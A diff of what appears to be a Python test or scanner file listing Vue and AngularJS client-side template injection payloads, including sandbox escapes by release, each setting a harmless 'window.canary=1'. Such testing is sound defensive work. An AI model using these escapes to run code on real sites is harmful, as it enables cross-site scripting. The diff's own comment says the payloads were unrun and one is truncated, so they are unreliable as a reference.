@@ -57,7 +57,8 @@ _VUE = {
     "once": "<p v-once v-text=\"''.sub.constructor('window.canary=1')()\"></p>",
 }
 
-# The ways out of AngularJS's sandbox, by the releases that they were found in; from 1.6 on there is none.
+# Ways out of AngularJS's sandbox, named after the releases that they are about; from 1.6 on there is none. They
+# were written down from memory and not run: the one for 1.5.9 is only the beginning of the published one.
 _ANGULAR = {
     "1-2-0": "{{a='constructor';b={};a.sub.call.call(b[a].getOwnPropertyDescriptor(b[a].getPrototypeOf(a.sub),a).value,0,'window.canary=1')()}}",
     "1-2-6": "{{(_=''.sub).call.call({}[$='constructor'].getOwnPropertyDescriptor(_.__proto__,$).value,0,'window.canary=1')()}}",
